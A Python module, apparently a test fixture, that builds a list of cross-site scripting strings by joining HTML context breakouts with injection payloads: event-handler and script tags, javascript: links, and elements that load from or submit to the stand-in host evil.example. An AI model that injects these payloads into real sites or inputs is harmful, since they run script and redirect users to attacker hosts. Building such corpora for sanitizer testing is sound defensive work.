"""Strings that try to become more than text, composed from ways out and ways to run."""

# Ways out of where a text may stand: an element, an attribute, a comment, a style, a picture.
OUT = (
    "",
    "plain words ",
    '">',
    "'>",
    "`>",
    "--><!-->",
    "]]>",
    "</title>",
    "</style>",
    "</blockquote></li></ol>",
    "</summary></details></main>",
    "</text></g></svg>",
    "</td></tr></table>",
    "&quot;&gt;",
    "\x00\u202e",
)
# Ways to run something, to load something, or to add an element.
RUN = (
    "<script>alert({n})</script>",
    "<img src=x{n} onerror=alert({n})>",
    "<svg onload=alert({n})><set onbegin=alert({n})>",
    "<a href='javascript:alert({n})' id=c{n}>go</a>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<object data=//evil.example/{n}></object>",
    "<video><source onerror=alert({n})></video>",
    "<form action=//evil.example/{n}><button>go</button></form>",
    "![x](//evil.example/{n}.png) [y](javascript:alert({n}))",
    "' onmouseover='alert({n})' style='background:url(//evil.example/{n})",
)
STRINGS = tuple(
    out + run.format(n=i * len(RUN) + k) for i, out in enumerate(OUT) for k, run in enumerate(RUN)
)
